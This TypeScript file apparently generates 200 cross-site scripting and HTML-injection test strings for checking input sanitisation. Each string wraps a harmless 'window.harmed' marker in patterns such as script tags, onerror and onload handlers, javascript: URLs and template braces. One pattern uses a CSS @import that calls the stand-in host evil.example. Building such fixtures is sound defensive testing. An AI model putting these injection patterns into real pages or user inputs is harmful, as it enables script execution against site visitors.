const wraps = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `<img src=x onerror=${code}>`,
  (code: string) => `"><svg onload=${code}>`,
  (code: string) => `javascript:${code}`,
  (code: string) => `x'-${code}-'`,
  (code: string) => `{{${code}}}`,
  (code: string) => `<iframe srcdoc="<script>parent.${code}</script>">`,
  (code: string) => `<a href="javascript:${code}">点我</a>`,
  (code: string) => `<style>@import "https://evil.example/${code}";</style>`,
  (code: string) => `</textarea><details open ontoggle=${code}>`,
];

/** Two hundred, each one different; each does something wherever it is taken for more than a text. */
export const harmfulTexts: readonly string[] = Array.from(
  { length: 200 },
  (_, at) => wraps[at % wraps.length]?.(`window.harmed=${at}`).slice(0, 100) ?? '',
);
